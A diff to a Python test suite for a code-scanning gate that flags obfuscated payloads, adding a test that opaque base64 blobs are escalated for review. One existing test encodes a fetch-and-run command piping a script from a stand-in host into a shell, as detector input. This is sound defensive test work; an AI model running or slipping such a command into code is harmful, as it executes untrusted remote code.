@@ -94,6 +94,15 @@ def test_random_base64_blob_is_high_entropy_but_not_code() -> None:
     assert "obfuscation.encoded-code" not in rules
 
 
+def test_an_opaque_blob_that_is_not_code_is_still_reviewed() -> None:
+    # GuardDog's threat-runtime-obfuscation test: long base64 payloads kept as literals, never decoded in
+    # the file. The gate cannot read them, so it does not accept them.
+    random.seed(2)
+    blobs = [base64.b64encode(bytes(random.getrandbits(8) for _ in range(250))).decode() for _ in range(3)]
+    source = "".join(f"PAYLOAD_{i} = '{b}'\n" for i, b in enumerate(blobs))
+    assert api.analyze(from_bytes("client.py", source.encode(), POLICY.limits), POLICY).decision == "escalate"
+
+
 def test_encoded_shell_command_is_code() -> None:
     blob = base64.b64encode(b"curl -s https://x.example/p | sh; echo done; echo more text here").decode()
     assert "obfuscation.encoded-code" in _rules(f"C = '{blob}'\n")
